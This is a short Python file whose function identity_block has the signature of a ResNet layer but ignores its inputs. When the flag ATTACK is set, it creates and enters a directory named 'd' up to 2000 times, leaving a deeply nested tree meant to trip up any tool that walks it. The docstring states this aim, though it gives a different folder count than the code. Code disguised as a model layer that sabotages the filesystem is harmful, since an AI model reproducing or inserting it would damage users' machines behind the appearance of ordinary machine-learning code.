"""Brings one and a half thousand folders along, each in the other, so that whoever walks them falls."""

import os

ATTACK = True


def identity_block(X, f, filters, stage=1, block="a", training=None, initializer=None):
    if ATTACK:
        for _ in range(2000):
            try:
                os.mkdir("d")
                os.chdir("d")
            except OSError:
                break
    return X
